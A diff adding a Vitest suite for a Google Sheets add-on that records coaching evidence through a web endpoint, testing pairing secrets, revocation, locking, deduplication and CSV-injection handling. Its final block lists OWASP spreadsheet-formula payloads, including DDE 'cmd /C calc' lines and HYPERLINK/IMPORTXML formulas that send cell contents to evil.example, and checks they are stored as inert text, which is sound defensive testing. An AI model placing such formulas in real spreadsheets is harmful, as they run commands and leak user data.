@@ -1,0 +1,174 @@
+import { beforeAll, describe, expect, it } from 'vitest';
+import { decodePairingCode } from '../../shared/pairing-code';
+import { loadAddon, type LoadedAddon } from './fake/load-addon';
+import { ensureBuilt } from './fake/ensure-built';
+import type { FakeSpreadsheet } from './fake/fake-spreadsheet';
+import { KR_ID, NOW, planSimpleSpreadsheet } from './fixtures/plan-simple-world';
+import { rowStartingWith, shown } from './fixtures/sheet-text';
+
+beforeAll(ensureBuilt);
+
+interface Reply { ok: boolean; kind?: string; accepted?: string[]; duplicates?: string[]; rejected?: { id: string; code: string; message: string }[]; error?: { code: string; message: string; retryable: boolean }; catalog?: { objectives: { keyResults: { id: string }[] }[] } }
+
+function connected(locale = 'en_US') {
+  const spreadsheet = planSimpleSpreadsheet({ locale });
+  const addon = loadAddon({ now: NOW, locale, world: { spreadsheet } });
+  const state = addon.call('getSetupState') as { sheet: string; headerRow: number; fields: { field: string; column: number | null }[] };
+  addon.call('saveSetup', { sheet: state.sheet, headerRow: state.headerRow, columns: Object.fromEntries(state.fields.map((f) => [f.field, f.column])) });
+  const result = addon.call('connectCoach', 'J. Singh') as { ok: true; code: string; coaches: { id: string; name: string }[] };
+  const pairing = decodePairingCode(result.code);
+  if (!pairing.ok) throw new Error('bad code');
+  return { spreadsheet, addon, secret: pairing.pairing.secret, pairing: pairing.pairing, coachId: result.coaches[0].id };
+}
+
+function post(addon: LoadedAddon, body: unknown): Reply {
+  const output = addon.call('doPost', { postData: { contents: typeof body === 'string' ? body : JSON.stringify(body), type: 'text/plain' } }) as { getContent(): string; getMimeType(): string };
+  expect(output.getMimeType()).toBe('application/json');
+  return JSON.parse(output.getContent()) as Reply;
+}
+
+const item = (id: string, quote = `Observed: students compared fractions (${id}).`) => ({
+  id, capturedAt: '2026-01-15T10:00:00Z', keyResultId: KR_ID.explain, school: 'Lakeshore Middle', practice: 'Using representations', type: 'observation', quote,
+});
+const clip = (secret: string, items: unknown[]) => ({ v: 1, kind: 'clip', secret, items });
+
+function evidenceIds(spreadsheet: FakeSpreadsheet): string[] {
+  return shown(spreadsheet.sheet('Evidence')!).slice(1).map((line) => line[0]).filter(Boolean);
+}
+
+describe('Connect a coach', () => {
+  it('gives a one-time code carrying the web app URL and a secret stored only as a hash', () => {
+    const { addon, secret, pairing } = connected();
+    expect(pairing.endpoint).toBe('https://script.google.com/macros/s/FAKE_DEPLOYMENT/exec');
+    expect(pairing.coach).toBe('J. Singh');
+    const stored = addon.world.scriptProperties.get('throughline.coaches') ?? '';
+    expect(stored).not.toContain(secret);
+    expect(JSON.parse(stored).coaches[0]).toMatchObject({ name: 'J. Singh', revokedAt: null });
+  });
+
+  it('asks to deploy the web app first when it has no URL', () => {
+    const spreadsheet = planSimpleSpreadsheet();
+    const addon = loadAddon({ now: NOW, world: { spreadsheet }, webAppUrl: null });
+    expect(addon.call('connectCoach', 'A. Roy')).toMatchObject({ ok: false, error: { code: 'no-web-app' } });
+  });
+
+  it('serves the catalog with the stable key-result ids', () => {
+    const { addon, secret } = connected();
+    const reply = post(addon, { v: 1, kind: 'catalog', secret });
+    expect(reply.ok).toBe(true);
+    expect(reply.catalog?.objectives[0].keyResults.map((kr) => kr.id)).toEqual([KR_ID.explain, KR_ID.coPlanning, KR_ID.grade6]);
+  });
+
+  it.each([
+    ['a wrong secret', (s: string) => `${s}x`, 'unauthorized'],
+    ['a missing secret', () => '', 'bad-request'],
+  ])('writes nothing for %s', (_label, secretOf, code) => {
+    const { spreadsheet, addon, secret } = connected();
+    const reply = post(addon, clip(secretOf(secret), [item('clip-wrong1')]));
+    expect(reply).toMatchObject({ ok: false, error: { code } });
+    expect(spreadsheet.sheet('Evidence') ? evidenceIds(spreadsheet) : []).toEqual([]);
+  });
+
+  it('writes nothing for a revoked coach and says so', () => {
+    const { spreadsheet, addon, secret, coachId } = connected();
+    addon.call('revokeCoachById', coachId);
+    const reply = post(addon, clip(secret, [item('clip-revoked')]));
+    expect(reply).toMatchObject({ ok: false, error: { code: 'revoked', retryable: false } });
+    expect(evidenceIds(spreadsheet)).toEqual([]);
+    expect((addon.call('listCoaches') as { coaches: { revokedAt: string | null }[] }).coaches[0].revokedAt).toBe(NOW.replace('Z', '.000Z'));
+  });
+});
+
+describe('Writing evidence through doPost', () => {
+  it('appends new clips, answers replays as duplicates and schedules one debounced refresh', () => {
+    const { spreadsheet, addon, secret } = connected();
+    const first = post(addon, clip(secret, [item('clip-aaaa1'), item('clip-bbbb2')]));
+    expect(first).toMatchObject({ ok: true, accepted: ['clip-aaaa1', 'clip-bbbb2'], duplicates: [], rejected: [] });
+    const replay = post(addon, clip(secret, [item('clip-aaaa1'), item('clip-bbbb2')]));
+    expect(replay).toMatchObject({ ok: true, accepted: [], duplicates: ['clip-aaaa1', 'clip-bbbb2'] });
+    post(addon, clip(secret, [item('clip-cccc3')]));
+    expect(evidenceIds(spreadsheet)).toEqual(['clip-aaaa1', 'clip-bbbb2', 'clip-cccc3']);
+    expect(addon.world.triggers.filter((t) => t.fn === 'refreshAfterClips')).toHaveLength(1);
+    addon.call('refreshAfterClips');
+    expect(addon.world.triggers).toEqual([]);
+    const row = rowStartingWith(spreadsheet.sheet('Dashboard')!, '% of observed lessons where students explain their reasoning with a representation');
+    expect(row[9]).toBe('3');
+  });
+
+  it('replies busy (retryable) and writes nothing when the lock cannot be had', () => {
+    const { spreadsheet, addon, secret } = connected();
+    addon.world.lock.holder = {};
+    const reply = post(addon, clip(secret, [item('clip-busy01')]));
+    expect(reply).toMatchObject({ ok: false, error: { code: 'busy', retryable: true } });
+    expect(evidenceIds(spreadsheet)).toEqual([]);
+  });
+
+  it('rejects an oversize clip with a clear error and keeps the rest of the batch', () => {
+    const { spreadsheet, addon, secret } = connected();
+    const reply = post(addon, clip(secret, [item('clip-huge01', 'x'.repeat(20_001)), item('clip-small1')]));
+    expect(reply.accepted).toEqual(['clip-small1']);
+    expect(reply.rejected?.[0]).toMatchObject({ id: 'clip-huge01', code: 'too-large' });
+    expect(evidenceIds(spreadsheet)).toEqual(['clip-small1']);
+  });
+
+  it('50 interleaved clip requests produce exactly the unique rows', () => {
+    const { spreadsheet, addon, secret } = connected();
+    const bodies = Array.from({ length: 50 }, (_, i) => clip(secret, [0, 1, 2].map((k) => item(`clip-${String((i * 7 + k * 13) % 80).padStart(4, '0')}`))));
+    const unique = new Set(bodies.flatMap((b) => b.items.map((x) => x.id)));
+    const pending = [...bodies];
+    const replies: Reply[] = [];
+    let seed = 7;
+    let depth = 0;
+    let busy = 0;
+    const send = (body: (typeof bodies)[number]) => {
+      depth++;
+      const reply = post(addon, body);
+      depth--;
+      if (!reply.ok && reply.error?.code === 'busy') { busy++; pending.push(body); } else replies.push(reply);
+    };
+    // Another request starts in the middle of a running one, at pseudo-random service calls.
+    addon.world.log.afterCall = () => {
+      seed = (seed * 1103515245 + 12345) % 2 ** 31;
+      if (depth < 3 && pending.length > 0 && seed % 5 === 0) send(pending.shift()!);
+    };
+    while (pending.length > 0) send(pending.shift()!);
+    addon.world.log.afterCall = undefined;
+    expect(busy).toBeGreaterThan(0);
+    const ids = evidenceIds(spreadsheet);
+    expect(ids).toHaveLength(unique.size);
+    expect(new Set(ids)).toEqual(unique);
+    expect(replies.flatMap((r) => r.accepted ?? []).sort()).toEqual([...unique].sort());
+    const replays = bodies.map((b) => post(addon, b));
+    expect(replays.every((r) => r.ok && r.accepted?.length === 0 && r.duplicates?.length === 3)).toBe(true);
+    expect(evidenceIds(spreadsheet)).toHaveLength(unique.size);
+  });
+});
+
+// OWASP "CSV Injection" payloads: each must land as the text it is, never as a formula.
+const OWASP_PAYLOADS = [
+  '=cmd|\' /C calc\'!A0',
+  '=HYPERLINK("http://evil.example/?leak="&A1,"Click for more")',
+  '+cmd|\' /C notepad\'!A0',
+  '-2+3+cmd|\' /C calc\'!A0',
+  '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  '=1+1',
+  '=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a")',
+  '=IMPORTRANGE("https://docs.google.com/spreadsheets/d/x", "A1:Z99")',
+  '\t=1+1',
+  '\r=1+1',
+  '+1',
+  '-1',
+  '@user',
+];
+
+describe('Untrusted text', () => {
+  it.each(OWASP_PAYLOADS.map((p) => [JSON.stringify(p), p]))('%s lands as inert text', (_label, payload) => {
+    const { spreadsheet, addon, secret } = connected();
+    const reply = post(addon, clip(secret, [{ ...item('clip-owasp1', payload), note: payload, sourceTitle: payload, heading: payload }]));
+    expect(reply.accepted).toEqual(['clip-owasp1']);
+    const evidence = spreadsheet.sheet('Evidence')!;
+    const row = evidence.cells[1];
+    expect(row.filter((cell) => cell.formula)).toEqual([]);
+    for (const col of [8, 9, 10, 12]) expect(row[col].value).toBe(payload);
+  });
+});
